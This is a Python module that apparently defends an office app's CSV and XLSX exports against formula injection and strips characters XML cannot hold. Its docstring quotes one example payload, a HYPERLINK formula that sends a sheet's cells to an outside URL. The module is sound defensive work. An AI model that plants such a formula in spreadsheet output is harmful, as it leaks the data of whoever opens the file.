"""What people typed, written into the files the office opens: as text, never as a formula, and never as a
character the file format can't hold.

- A spreadsheet runs what starts with ``=`` (and Excel, LibreOffice and Google Sheets also read ``+``, ``-``,
  ``@``, and a leading tab or CR, as the start of one): ``=HYPERLINK("http://…?leak="&A1,"Xem")`` in a submission
  becomes a live link that sends the sheet's cells away. In an XLSX every string cell is written as text
  (``data_type = "s"``: openpyxl stores it as an inline string, never ``<f>``); a CSV has no types, so such a cell
  gets OWASP's prefix ``'``.
- XML (every .xlsx and .docx) can't hold the C0 control characters but tab and line breaks. New input refuses
  them (``core.inputs``), but text stored before that may hold one (Word's Shift+Enter pastes ``\\v``): the
  writers take ``xml_text`` of it instead of failing the whole file. A vertical tab or form feed becomes the line
  break it stood for; anything else that can't be written is left out.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_LINE_BREAKS = re.compile("[\x0b\x0c]")
_NOT_XML = re.compile("[\x00-\x08\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def xml_text(value: str) -> str:
    """``value`` with nothing an XML file can't hold."""
    return _NOT_XML.sub("", _LINE_BREAKS.sub("\n", value))


def csv_cell(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet would run is prefixed with ``'``."""
    if isinstance(value, str):
        value = xml_text(value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def text_cell(sheet: Any, value: Any) -> Any:
    """An openpyxl cell of ``sheet`` (normal or write-only) holding ``value``; a string is stored as text."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=xml_text(value))
        cell.data_type = "s"
        return cell
    return WriteOnlyCell(sheet, value=value)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for ``sheet.append(...)``: strings as text (``text_cell``); cells already made are kept, their string
    values made safe the same way."""
    from openpyxl.cell import Cell

    row = []
    for value in values:
        if isinstance(value, Cell):
            if isinstance(value.value, str):
                value.value = xml_text(value.value)
                value.data_type = "s"
            row.append(value)
        else:
            row.append(text_cell(sheet, value))
    return row
